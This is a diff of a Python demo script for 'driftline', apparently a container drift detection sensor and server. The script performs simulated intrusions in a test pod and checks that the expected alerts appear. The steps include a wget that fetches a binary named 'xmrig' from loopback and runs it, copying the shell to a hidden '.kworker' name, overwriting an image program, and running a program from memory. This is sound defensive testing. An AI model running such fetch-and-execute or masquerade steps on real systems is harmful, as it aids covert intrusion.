@@ -1,9 +1,9 @@
-"""The demo: a real container, a real attacker in it, and the server and sensor that see and stop the drift.
+"""Demonstration: a real container, an attack inside it, and a server and sensor that detect and stop the drift.
 
-Starts a private containerd, runs the image ``web`` (a shell and a few programs, no wget) as a
-pod, starts ``driftline server`` and a ``driftline sensor`` that joins it and gets its policy from it,
-and then does in the container what intruders and careless people do. Everything is removed at the
-end; the server's data is kept to look at.
+Starts a private containerd, runs the image ``web`` (a shell and a few programs, no wget) as a pod,
+starts ``driftline server`` and a ``driftline sensor`` that joins it and gets its policy from it, then
+performs in the container what intruders and careless users do. Everything is removed at the end
+except the server's data, which is kept for inspection.
 """
 
 from __future__ import annotations
@@ -31,29 +31,32 @@ import lab
 from driftline.cli import _client, _list
 from lab import LabContainer
 
-HOME = Path("/var/tmp/driftline-demo")
-STORE = HOME / "store"
-CA = HOME / "server" / "pki" / "ca.pem"
+DATA = Path("/var/tmp/driftline-demo")
+STORE = DATA / "store"
+CA = DATA / "server" / "pki" / "ca.pem"
 POLICY = Path(__file__).parent.parent / "deploy" / "policies" / "demo.yaml"
 DRIFTLINE = (sys.executable, "-m", "driftline.cli")
-PAUSE = 1.0
+PAUSE = 1.0  # seconds between the steps, so that a person can follow the output
 
-# What is done in the container: a line for people, the shell's words, and whether it is drift.
-INNOCENT = (
+# Steps in the container: a description, and a shell script.
+BENIGN = (
     ("runs a program of the image", "ls / >/dev/null; id >/dev/null"),
     ("changes the mode of an image program, and runs it", "chmod 0711 /usr/bin/head; head -c0 /etc/hostname"),
     ("touches an image program, and runs it", "touch /usr/bin/env; env true"),
 )
 ATTACK = (
-    ("runs the wget that came along: the image has none", "/tmp/wget -q -O /tmp/xmrig http://127.0.0.1:{port}/tool"),
-    ("runs what wget brought", "chmod +x /tmp/xmrig; /tmp/xmrig sleep 0.1"),
+    (
+        "runs a wget that was copied into the container: the image has none",
+        "/tmp/wget -q -O /tmp/xmrig http://127.0.0.1:{port}/tool",
+    ),
+    ("runs the program that wget downloaded", "chmod +x /tmp/xmrig; /tmp/xmrig sleep 0.1"),
     ("copies the image's shell to another name", "cp /bin/bash /tmp/.kworker; /tmp/.kworker -c true"),
     ("overwrites an image program in place", "cat /tmp/wget > /usr/bin/head; head -c0 /etc/hostname"),
-    ("runs a script of its own", "echo id > /tmp/x.sh; sh /tmp/x.sh >/dev/null"),
-    ("makes a loader of its own run a program that never was a file", "/tmp/loader /bin/sleep kworker 0.3"),
+    ("writes a script and runs it", "echo id > /tmp/x.sh; sh /tmp/x.sh >/dev/null"),
+    ("runs a loader that executes a program from memory, without a file", "/tmp/loader /bin/sleep kworker 0.3"),
 )
-BLOCKED = ("runs the wget that came along, where the policy blocks", "/tmp/wget --help; echo exit code $?")
-EXPECTED = 8  # the loader and what it loads are two
+BLOCKED = ("runs the copied wget, where the policy blocks it", "/tmp/wget --help; echo exit code $?")
+EXPECTED_ALERTS = 8  # one for each step, for the program run from memory, and for the blocked wget
 
 
 def say(text: str = "") -> None:
@@ -62,7 +65,7 @@ def say(text: str = "") -> None:
 
 @contextlib.contextmanager
 def downloads() -> Iterator[int]:
-    """Serve a folder with one tool on loopback; gives the port."""
+    """Serve a folder with one tool on loopback; yield the port."""
     with tempfile.TemporaryDirectory() as folder:
         shutil.copy("/bin/busybox", Path(folder, "tool"))
         handler = partial(QuietHandler, directory=folder)
@@ -74,16 +77,16 @@ def downloads() -> Iterator[int]:
 
 class QuietHandler(http.server.SimpleHTTPRequestHandler):
     def log_message(self, *_: object) -> None:
-        """Say nothing of each request."""
+        """Suppress the log line of each request."""
 
 
 @contextlib.contextmanager
 def server() -> Iterator[_client.Client]:
-    """Run the server, with an admin logged in to it as by ``driftline login --setup``."""
+    """Run the server, and yield a client that is logged in as an admin by ``driftline login --setup``."""
     with socket.create_server(("127.0.0.1", 0)) as probe:
         port = probe.getsockname()[1]
     command = (
-        *DRIFTLINE, "server", "--port", str(port), "--data", HOME / "server", "--store", STORE,
+        *DRIFTLINE, "server", "--port", str(port), "--data", DATA / "server", "--store", STORE,
         "--set", "sensor_names=localhost", "--set", "log_level=WARNING",
     )  # fmt: skip
     process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
@@ -93,7 +96,7 @@ def server() -> Iterator[_client.Client]:
     say(f"driftline: server on {url}, pid {process.pid}")
     try:
         wait_until(lambda: is_ready(url))
-        os.environ |= {"DRIFTLINE_CREDENTIALS": str(HOME / "credentials.json")}
+        os.environ |= {"DRIFTLINE_CREDENTIALS": str(DATA / "credentials.json")}
         answers = f"{setup}\n{secrets.token_urlsafe()}\n"
         login = (*DRIFTLINE, "login", "--server", url, "--name", "demo", "--ca", CA, "--setup")
         subprocess.run(login, input=answers, text=True, check=True)
@@ -112,7 +115,7 @@ def is_ready(url: str) -> bool:
 
 
 def wait_until(condition: Callable[[], Any]) -> Any:
-    """Ask again for half a minute; gives the first answer that is true."""
+    """Call ``condition`` for up to 30 seconds; return its first true result."""
     deadline = time.monotonic() + 30
     while not (found := condition()):
         if time.monotonic() > deadline:
@@ -123,12 +126,12 @@ def wait_until(condition: Callable[[], Any]) -> Any:
 
 @contextlib.contextmanager
 def sensor(runtime: Path, client: _client.Client) -> Iterator[None]:
-    """Let a sensor join, and give it a policy; its alerts appear in this terminal."""
+    """Run a sensor that joins the server, and put a policy in force; its alerts appear in this terminal."""
     token = client.call("POST", "/join-tokens", body={"cluster": "demo"})["token"]
     url = _client.load_credentials().server
     command = (
-        *DRIFTLINE, "sensor", "--server", url, "--state", HOME / "sensor", "--runtime", runtime,
-        "--images", HOME / "images", "--listen", "127.0.0.1:0",
+        *DRIFTLINE, "sensor", "--server", url, "--state", DATA / "sensor", "--runtime", runtime,
+        "--images", DATA / "images", "--listen", "127.0.0.1:0",
     )  # fmt: skip
     process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env={**os.environ, "DRIFTLINE_JOIN": token})
     assert process.stderr is not None
@@ -154,7 +157,7 @@ def act(container: LabContainer, about: str, script: str) -> None:
 
 
 def bring(container: LabContainer, name: str, content: bytes) -> None:
-    """Put a tool into the container, as `kubectl cp` does."""
+    """Copy a tool into the container, as `kubectl cp` does."""
     container.sh(f"cat > /tmp/{name}; chmod +x /tmp/{name}", stdin=content)
 
 
@@ -162,23 +165,23 @@ def main() -> None:
     if os.geteuid():
         sys.exit("demo: needs root, for containers and eBPF")
     for name in ("store", "server", "sensor"):
-        shutil.rmtree(HOME / name, ignore_errors=True)
+        shutil.rmtree(DATA / name, ignore_errors=True)
     with lab.start("demo") as it, downloads() as port, server() as client:
         web = it.pod("web-1", namespace="shop", labels={"app": "web"}).container("web")
         with sensor(it.socket, client):
-            say("\n== innocent: nothing may appear below ==")
-            for about, script in INNOCENT:
+            say("\n== benign: no alert may appear below ==")
+            for about, script in BENIGN:
                 act(web, about, script)
             say("\n== drift: each must appear as an alert ==")
             bring(web, "wget", Path("/bin/busybox").read_bytes())
             bring(web, "loader", it.pod("tools").container("busybox").exec("cat", "/opt/lab/memexec").stdout)
             for about, script in ATTACK:
                 act(web, about, script.format(port=port))
-            say("\n== prevention: not one instruction of it may run ==")
+            say("\n== prevention: the program must be killed before its first instruction ==")
             payments = it.pod("pay-1", namespace="payments", labels={"app": "pay"}).container("web")
             bring(payments, "wget", Path("/bin/busybox").read_bytes())
             act(payments, *BLOCKED)
-        say("\n== the same, as the server knows it ==")
+        say("\n== the alerts on the server ==")
         check(client)
         say("\n== the fleet: driftline fleet sensors ==")
         subprocess.run((*DRIFTLINE, "fleet", "sensors"), check=True)
@@ -188,13 +191,13 @@ def main() -> None:
 
 
 def check(client: _client.Client) -> None:
-    """Show the server's alerts; fail unless they are exactly what the attack deserves."""
-    alerts = wait_until(lambda: it if _count(it := of_drift(client)) >= EXPECTED else None)
+    """Print the server's alerts; exit with an error unless they are exactly the expected ones."""
+    alerts = wait_until(lambda: it if _count(it := of_drift(client)) >= EXPECTED_ALERTS else None)
     _list.print_items(alerts, ("severity", "title", "count", "rule"), "table")
-    if _count(alerts) != EXPECTED:
-        sys.exit(f"demo: expected {EXPECTED} alerts, the server counted {_count(alerts)}")
-    say(f"{len(alerts)} alerts of {EXPECTED} executions: repeats of one finding are one alert with a count")
-    say(f"none for the {len(INNOCENT)} innocent acts")
+    if _count(alerts) != EXPECTED_ALERTS:
+        sys.exit(f"demo: expected {EXPECTED_ALERTS} alerts, the server counted {_count(alerts)}")
+    say(f"{len(alerts)} alerts of {EXPECTED_ALERTS} executions: repeats of one finding are one alert with a count")
+    say(f"none for the {len(BENIGN)} benign steps")
 
 
 def _count(alerts: Sequence[Mapping[str, Any]]) -> int:
